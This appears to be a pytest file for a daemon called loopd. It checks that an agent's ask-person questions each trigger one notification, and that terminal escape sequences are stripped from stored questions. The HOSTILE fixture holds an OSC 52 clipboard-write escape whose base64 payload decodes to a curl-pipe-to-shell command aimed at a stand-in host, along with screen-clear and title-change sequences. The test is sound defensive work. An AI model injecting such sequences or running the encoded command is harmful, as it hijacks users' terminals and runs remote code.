"""An agent's question (`ask_person`) notifies a person through `[notify]` as an escalation
does: one notification per question, by the notify command and the webhook, while the run
goes on. A real daemon runs the loop; its `command` agent calls `loopd-tool ask-person`."""

from __future__ import annotations

import json
import sys
import tomllib
from pathlib import Path

import tomli_w

from tests.helpers import events, loopd, make_home, make_repo, start_daemon, stop_daemon, wait_for
from tests.test_desk_tools import BUGGY
from tests.test_handoff_e2e import Webhook, notified, notify_config

AGENT = r"""
import pathlib, subprocess
p = pathlib.Path('calc.py'); p.write_text(p.read_text().replace('a - b', 'a + b'))
for q in ('Should add() accept strings too?', 'May I rename calc.py?'):
    r = subprocess.run(['loopd-tool', 'ask-person', '--question', q],
                       capture_output=True, text=True)
    print('TOOL', r.returncode, (r.stdout or r.stderr).strip()[:300], flush=True)
"""


def test_each_question_notifies_once_and_the_run_goes_on(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", BUGGY)
    with Webhook() as hook:
        notify, out = notify_config(tmp_path, hook.url)
        config = '[agents.fixer]\nadapter = "command"\n'
        config += f"command = {json.dumps([sys.executable, '-c', AGENT])}\n" + notify
        loop = {
            "repo": str(repo),
            "task": "Make check.py pass.",
            "agent": "fixer",
            "done_when": ["python3 check.py"],
            "attempt_timeout": "300s",
            "stall_after": "300s",
            "max_attempts": 1,
            "notify_on": [],
        }
        home = make_home(tmp_path / "home", config, {"calc": tomli_w.dumps(loop)})
        daemon = start_daemon(home)
        try:
            proc = loopd(home, "trigger", "calc", "--wait", timeout=300)
            assert proc.returncode == 0, proc.stderr[-2000:]
            sent = wait_for(lambda: len(notified(out)) >= 2 and notified(out), timeout=60)
            wait_for(lambda: len(hook.posts) >= 2, timeout=60, what="the webhook")
        finally:
            assert stop_daemon(daemon) == 0
    [run_dir] = list((home / "state" / "runs").iterdir())
    run = tomllib.loads((run_dir / "run.toml").read_text())
    assert run["outcome"] == "succeeded", run.get("reason")  # a question does not end it

    # One notification per question, no more: notify_on is empty and the run succeeded.
    assert len(sent) == 2 and len(hook.posts) == 2, (sent, hook.posts)
    assert all(argv[0] == "--from-loopd" for argv in sent)
    assert "asks a person: Should add() accept strings too?" in sent[0][-1]
    assert "asks a person: May I rename calc.py?" in sent[1][-1]
    posted = [json.loads(p["json"]) for p in hook.posts]
    assert sorted(p["question"] for p in posted) == [
        "May I rename calc.py?",
        "Should add() accept strings too?",
    ]
    assert {p["kind"] for p in posted} == {"question"}
    assert {Path(p["file"]).name for p in posted} == {
        f"{run_dir.name}-q1.md",
        f"{run_dir.name}-q2.md",
    }
    done = [e for e in events(home) if e["type"] == "notified" and e.get("kind") == "question"]
    assert len(done) == 4  # two questions, two notifiers


HOSTILE = r"""
import pathlib, subprocess
p = pathlib.Path('calc.py'); p.write_text(p.read_text().replace('a - b', 'a + b'))
q = 'Fine?\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07 (yes)'
r = subprocess.run(['loopd-tool', 'ask-person', '--question', q], capture_output=True, text=True)
print('TOOL', r.returncode, flush=True)
"""


def test_a_question_is_stored_without_terminal_control_sequences(tmp_path: Path) -> None:
    """An OSC 52 clipboard write in ask_person's question: `cat` of the escalation file
    would replay it; it is stored as plain text."""
    repo = make_repo(tmp_path / "repo", BUGGY)
    config = '[agents.fixer]\nadapter = "command"\n'
    config += f"command = {json.dumps([sys.executable, '-c', HOSTILE])}\n"
    loop = {
        "repo": str(repo),
        "task": "Make check.py pass.",
        "agent": "fixer",
        "done_when": ["python3 check.py"],
        "attempt_timeout": "300s",
        "stall_after": "300s",
        "max_attempts": 1,
    }
    home = make_home(tmp_path / "home", config, {"calc": tomli_w.dumps(loop)})
    proc = loopd(home, "once", "calc", timeout=300)
    assert proc.returncode == 0, proc.stderr[-2000:]
    [asked] = list((home / "state" / "escalations").glob("*-q1.md"))
    text = asked.read_text()
    assert "Fine? (yes)" in text, text
    assert "\x1b" not in text and "\x07" not in text, repr(text)
